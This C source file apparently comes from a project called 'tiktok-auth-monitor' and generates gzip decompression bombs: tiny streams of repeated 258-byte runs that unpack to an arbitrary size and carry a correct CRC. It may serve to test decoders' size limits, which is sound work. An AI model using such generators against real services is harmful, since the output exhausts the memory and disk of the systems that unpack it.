/* SPDX-FileCopyrightText: tiktok-auth-monitor authors
 * SPDX-License-Identifier: Apache-2.0
 *
 * A gzip stream that is small on the wire and huge once unpacked: a deflate block of two bits per 258 bytes. */
#include "bomb.h"

#include <string.h>

#define RUN 258u
#define POLYNOMIAL 0xEDB88320u
/* A checksum step is affine over GF(2): 32 bits of state and a constant one. */
#define ROWS 33

struct bits_out {
    struct buf *to;
    uint32_t pending;
    unsigned int count;
};

static void bits_put(struct bits_out *out, uint32_t value, unsigned int count)
{
    out->pending |= value << out->count;
    out->count += count;
    while (out->count >= 8) {
        buf_char(out->to, (char)(out->pending & 0xff));
        out->pending >>= 8;
        out->count -= 8;
    }
}

static void bits_align(struct bits_out *out)
{
    if (out->count > 0) {
        bits_put(out, 0, 8 - out->count);
    }
}

static uint32_t crc_byte(uint32_t crc, unsigned char byte)
{
    crc ^= byte;
    for (int i = 0; i < 8; i++) {
        crc = (crc & 1) != 0 ? (crc >> 1) ^ POLYNOMIAL : crc >> 1;
    }
    return crc;
}

static uint32_t crc_text(uint32_t crc, const char *text)
{
    for (; *text != '\0'; text++) {
        crc = crc_byte(crc, (unsigned char)*text);
    }
    return crc;
}

/* Column i is what the map makes of bit i; bit 32 is the constant one. */
static uint64_t map_apply(const uint64_t *map, uint64_t state)
{
    uint64_t result = 0;

    for (int i = 0; i < ROWS; i++) {
        result ^= (state >> i & 1) != 0 ? map[i] : 0;
    }
    return result;
}

/* The checksum after count more bytes of that value, in log2(count) steps. */
static uint32_t crc_repeat(uint32_t crc, unsigned char byte, uint64_t count)
{
    const uint64_t one = UINT64_C(1) << 32;
    uint64_t state = crc | one;
    uint64_t map[ROWS];

    for (int i = 0; i < 32; i++) {
        map[i] = crc_byte((uint32_t)1 << i, byte) ^ crc_byte(0, byte);
    }
    map[32] = crc_byte(0, byte) | one;
    for (; count > 0; count >>= 1) {
        uint64_t squared[ROWS];

        if ((count & 1) != 0) {
            state = map_apply(map, state);
        }
        for (int i = 0; i < ROWS; i++) {
            squared[i] = map_apply(map, map[i]);
        }
        memcpy(map, squared, sizeof map);
    }
    return (uint32_t)state;
}

static void put_stored(struct bits_out *out, const char *text, bool last)
{
    uint32_t length = (uint32_t)strlen(text);

    bits_put(out, last ? 1 : 0, 1);
    bits_put(out, 0, 2);
    bits_align(out);
    bits_put(out, length & 0xffff, 16);
    bits_put(out, ~length & 0xffff, 16);
    buf_text(out->to, text);
}

/* A dynamic block with four codes: 'x' = 10, end of block = 11, length 258 = 0, distance 1 = 0. */
static void put_runs(struct bits_out *out, uint64_t runs)
{
    /* Lengths of the code length code in its odd order: 18 -> 1, 0 -> 2, 1 -> 3, 2 -> 3. */
    static const unsigned char order_lengths[] = {0, 0, 1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 3};

    bits_put(out, 0, 1);
    bits_put(out, 2, 2);
    bits_put(out, 286 - 257, 5);
    bits_put(out, 0, 5);
    bits_put(out, sizeof order_lengths - 4, 4);
    for (size_t i = 0; i < sizeof order_lengths; i++) {
        bits_put(out, order_lengths[i], 3);
    }
    /* Canonical codes, most significant bit first: 18 = 0, 0 = 10, 1 = 110, 2 = 111. */
    bits_put(out, 0, 1); /* zeros up to 'x' = 120 */
    bits_put(out, 120 - 11, 7);
    bits_put(out, 7, 3); /* 'x': 2 */
    bits_put(out, 0, 1); /* 121 to 255: 135 zeros */
    bits_put(out, 135 - 11, 7);
    bits_put(out, 7, 3); /* 256: 2 */
    bits_put(out, 0, 1); /* 257 to 284: 28 zeros */
    bits_put(out, 28 - 11, 7);
    bits_put(out, 3, 3); /* 285: 1, the code 110 reversed */
    bits_put(out, 3, 3); /* distance code 0: 1 */
    bits_put(out, 1, 2); /* 'x', the code 10 reversed */
    for (; runs >= 8; runs -= 8) {
        bits_put(out, 0, 16);
    }
    for (; runs > 0; runs--) {
        bits_put(out, 0, 2);
    }
    bits_put(out, 3, 2);
}

static void put_number(struct buf *stream, uint32_t number)
{
    for (int i = 0; i < 4; i++) {
        buf_char(stream, (char)(number >> (8 * i) & 0xff));
    }
}

void bomb_make(struct buf *stream, const char *prefix, uint64_t size, const char *suffix)
{
    static const char head[] = "\x1f\x8b\x08\0\0\0\0\0\0\x03";
    struct bits_out out = {.to = stream};
    uint64_t runs = size / RUN;
    uint32_t crc = 0xffffffffu;

    buf_add(stream, head, sizeof head - 1);
    put_stored(&out, prefix, false);
    put_runs(&out, runs);
    put_stored(&out, suffix, true);
    crc = crc_text(crc, prefix);
    crc = crc_repeat(crc, 'x', runs * RUN + 1);
    crc = crc_text(crc, suffix);
    put_number(stream, ~crc);
    put_number(stream, (uint32_t)(strlen(prefix) + runs * RUN + 1 + strlen(suffix)));
}
